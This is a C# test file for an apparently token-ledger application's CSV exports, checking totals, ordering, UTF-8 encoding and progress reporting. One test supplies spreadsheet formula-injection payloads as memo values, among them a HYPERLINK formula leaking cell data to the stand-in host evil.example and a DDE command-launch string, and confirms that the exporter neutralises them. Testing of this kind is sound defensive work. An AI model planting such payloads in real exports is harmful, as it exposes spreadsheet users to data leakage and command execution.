using Microsoft.EntityFrameworkCore;
using TokensForge.Core.Exports;
using TokensForge.Core.Ledger;
using TokensForge.Core.Wallets;
using TokensForge.Tests.Infrastructure;
using TokensForge.Tests.TopUps;

namespace TokensForge.Tests.Exports;

public sealed class ExportDatasetTests
{
    [Fact]
    public Task LedgerExport_ParsedBack_EqualsTransfersOfTheRange() => LedgerExportEqualsTransfersAsync(TestProvider.Sqlite);

    [SkippableFact]
    public async Task LedgerExport_Postgres_ParsedBack_EqualsTransfersOfTheRange()
    {
        Skip.If(TestDatabase.PostgresServer is null, "TF_PG is not set");
        await LedgerExportEqualsTransfersAsync(TestProvider.Postgres);
    }

    private static async Task LedgerExportEqualsTransfersAsync(TestProvider provider)
    {
        await using var db = await TopUpTestKit.CreateDatabaseAsync(provider);
        await LedgerScenario.RunAsync(db);
        var range = LedgerScenario.Range;

        var csv = await ExportTestKit.ExportAsync(db, "ledger", range);
        var rows = ExportTestKit.Read<LedgerTransferRow>(csv);

        await using var ctx = db.NewContext();
        var expected = await ctx.Transfers.Where(t => t.CreatedAt >= range.From && t.CreatedAt < range.To).ToListAsync();
        Assert.True(await ctx.Transfers.CountAsync() > expected.Count, "the scenario must have transfers outside the range");
        Assert.Equal(expected.Count, rows.Count);
        Assert.Equal(expected.Select(t => t.Id).Order(), rows.Select(r => r.TransferId).Order());
        Assert.Equal(expected.Sum(t => t.Amount), rows.Sum(r => r.AmountMicros));
        Assert.Equal(expected.Sum(t => t.Amount) / 1_000_000m, rows.Sum(r => r.AmountYuan));
        Assert.Equal(expected.Where(t => t.Flags is TransferFlags.None or TransferFlags.PostPending).Sum(t => t.Amount), rows.Sum(r => r.PostedMicros));
        foreach (var code in Enum.GetValues<TransferCode>())
            Assert.Equal(expected.Where(t => t.Code == code).Sum(t => t.Amount), rows.Where(r => r.Code == code.ToString().ToLowerInvariant()).Sum(r => r.AmountMicros));
        Assert.All(rows, r => Assert.True(range.Contains(r.CreatedAt.ToUniversalTime())));
        Assert.Equal(rows.OrderBy(r => r.CreatedAt).ThenBy(r => r.TransferId).Select(r => r.TransferId), rows.Select(r => r.TransferId));
    }

    [Fact]
    public async Task LedgerExport_File_IsUtf8WithBomIsoUtcTimesAndDecimalYuan()
    {
        await using var db = await TopUpTestKit.CreateDatabaseAsync();
        await LedgerScenario.RunAsync(db);

        var csv = await ExportTestKit.ExportAsync(db, "ledger", LedgerScenario.Range);
        var lines = ExportTestKit.Text(csv).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.True(ExportTestKit.StartsWithUtf8Bom(csv));
        Assert.StartsWith("transfer_id,tx_id,created_at_utc,code,state,debit_account,", lines[0]);
        var topUp = lines.Single(l => l.Contains(",topup,") && l.Contains(",official,"));
        Assert.Matches(@",2026-06-02T09:00:00\.0000000Z,topup,posted,sys:payments:clearing,", topUp);
        Assert.Contains(",50.000000,50000000,50000000,", topUp);
        Assert.Equal(await db.Get<CsvExporter>().Find("ledger")!.CountAsync(LedgerScenario.Range), lines.Length - 1);
    }

    [Fact]
    public async Task TopUpOrdersExport_ParsedBack_EqualsOrdersOfTheRange()
    {
        await using var db = await TopUpTestKit.CreateDatabaseAsync();
        var scenario = await LedgerScenario.RunAsync(db);
        var range = LedgerScenario.Range;

        var rows = ExportTestKit.Read<TopUpOrderRow>(await ExportTestKit.ExportAsync(db, "topups", range));

        await using var ctx = db.NewContext();
        var expected = await ctx.TopUpOrders.Where(o => o.CreatedAt >= range.From && o.CreatedAt < range.To).ToListAsync();
        Assert.Equal(3, await ctx.TopUpOrders.CountAsync());
        var row = Assert.Single(rows);
        var order = Assert.Single(expected);
        Assert.Equal((order.Id, order.Reference, scenario.Bob, "bob@test.local", "official"), (row.OrderId, row.Reference, row.UserId, row.UserEmail, row.Bucket));
        Assert.Equal((50_000_000L, 50m, "refunded", 20_000_000L, 20m, 30_000_000L), (row.AmountMicros, row.AmountYuan, row.Status, row.RefundedMicros, row.RefundedYuan, row.UnrecoveredMicros));
        Assert.Equal(expected.Sum(o => o.Amount), rows.Sum(r => r.AmountMicros));
        Assert.NotNull(row.CreditedAt);
        Assert.NotNull(row.RefundedAt);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)")]
    [InlineData("\tTAB")]
    [InlineData("\rCR")]
    public async Task LedgerExport_CellStartingLikeAFormula_IsNeutralised(string memo)
    {
        await using var db = await TopUpTestKit.CreateDatabaseAsync();
        await db.AddUserAsync("victim@test.local");
        var granted = await db.Get<AdjustmentService>().GrantAsync(new AdjustmentRequest("victim@test.local", Bucket.Routed, 1_000_000, null, memo, "test"));
        Assert.True(granted.Succeeded);

        var csv = await ExportTestKit.ExportAsync(db, "ledger", ExportRange.Days(new DateOnly(2026, 6, 1), new DateOnly(2026, 6, 1)));
        var row = Assert.Single(ExportTestKit.Read<LedgerTransferRow>(csv));

        Assert.Equal("'" + memo, row.Memo);
        Assert.DoesNotContain("," + memo, ExportTestKit.Text(csv));
        // Amounts are numbers, not text: they are never prefixed, negative or not.
        Assert.Equal(1_000_000, row.AmountMicros);
    }

    [Fact]
    public async Task ReconciliationExport_NegativeBalances_StayNumbers()
    {
        await using var db = await TopUpTestKit.CreateDatabaseAsync();
        await LedgerScenario.RunAsync(db);

        var text = ExportTestKit.Text(await ExportTestKit.ExportAsync(db, "reconciliation", LedgerScenario.Range));

        var clearing = text.Split("\r\n").Single(l => l.StartsWith("system,sys:payments:clearing,", StringComparison.Ordinal));
        Assert.Contains(",-100.000000,-100000000,", clearing);
        Assert.DoesNotContain("'-", clearing);
    }

    [Fact]
    public async Task WriteAsync_LargeRange_ReportsProgressInSteps()
    {
        await using var db = await TopUpTestKit.CreateDatabaseAsync();
        await db.AddUserAsync("many@test.local");
        var adjustments = db.Get<AdjustmentService>();
        for (var i = 0; i < 12; i++)
            await adjustments.GrantAsync(new AdjustmentRequest("many@test.local", Bucket.Routed, 1_000 + i, null, null, "test"));
        var reports = new List<long>();

        await using (var sink = new MemoryStream())
            await CsvExporter.ExportAsync(db.Get<CsvExporter>().Find("ledger")!, sink, ExportRange.Days(new DateOnly(2026, 6, 1), new DateOnly(2026, 6, 1)),
                new SynchronousProgress(reports.Add));

        Assert.Equal(12, reports[^1]);
    }

    private sealed class SynchronousProgress(Action<long> report) : IProgress<long>
    {
        public void Report(long value) => report(value);
    }
}
